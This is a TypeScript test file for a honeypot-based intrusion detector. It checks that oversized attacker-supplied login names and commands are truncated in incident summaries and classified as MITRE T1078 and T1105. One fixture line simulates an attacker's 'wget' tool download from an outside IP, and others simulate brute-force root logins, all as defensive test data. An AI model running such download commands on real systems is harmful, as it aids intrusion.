// Text an attacker chooses (a honeypot login name, a command typed into it) ends up in incidents: what the incident API
// serves of it is bounded, whatever the attacker sent.
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { cowrie } from "../../test/detector/fixtures/cowrieRecords.ts";
import { adminPassword, api, ingestTokens, login, post, startTestDetector, writeDetectorFiles, type DetectorFiles } from "../../test/detector/detectorHarness.ts";
import type { RunningDetector } from "../detector.ts";
import { maxSummaryLength } from "../incidents/incident.ts";

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 });

let files: DetectorFiles;
let detector: RunningDetector;
let adminToken: string;

beforeAll(async () => {
  files = await writeDetectorFiles();
  detector = await startTestDetector(files);
  adminToken = (await login(detector.url, "admin", adminPassword)).token;
});
afterAll(async () => {
  await detector?.close();
  await files?.remove();
});

describe("attacker-chosen text in incidents", () => {
  it("keeps an incident's summary bounded when the honeypot's attacker logs in with a huge name and types a huge command", async () => {
    const bot = { srcIp: "198.51.100.77", session: "huge" };
    const huge = "A".repeat(200_000);
    const records = [
      cowrie.loginFailed(bot, 0, "root", "a"), cowrie.loginFailed(bot, 1, "root", "b"), cowrie.loginFailed(bot, 2, "root", "c"),
      cowrie.loginSuccess(bot, 3, `root${huge}`, "d"),
      cowrie.command(bot, 4, `wget http://203.0.113.9/${huge}`),
    ];
    const r = await post(`${detector.url}/api/v1/ingest/cowrie?wait=true`, records.map((x) => JSON.stringify(x)).join("\n"), ingestTokens.default);
    expect(r.status).toBe(200);
    const list = await api(`${detector.url}/api/v1/incidents?sourceIp=${bot.srcIp}`, adminToken);
    const items = list.json.items as { id: string; summary: string; techniques: { id: string }[] }[];
    // Valid accounts after failures (T1078) names the login; the tool download (T1105) the command.
    expect(items.map((i) => i.techniques[0]!.id).sort()).toEqual(["T1078", "T1105"]);
    for (const i of items) {
      expect(i.summary.length).toBeLessThanOrEqual(maxSummaryLength);
      expect(i.summary).toMatch(/^(successful login as rootAAAA|tool downloaded after login from 198\.51\.100\.77: wget http:\/\/203\.0\.113\.9\/AAAA).*…$/);
      const one = await api(`${detector.url}/api/v1/incidents/${i.id}`, adminToken);
      expect((one.json.summary as string).length).toBeLessThanOrEqual(maxSummaryLength);
    }
  });
});
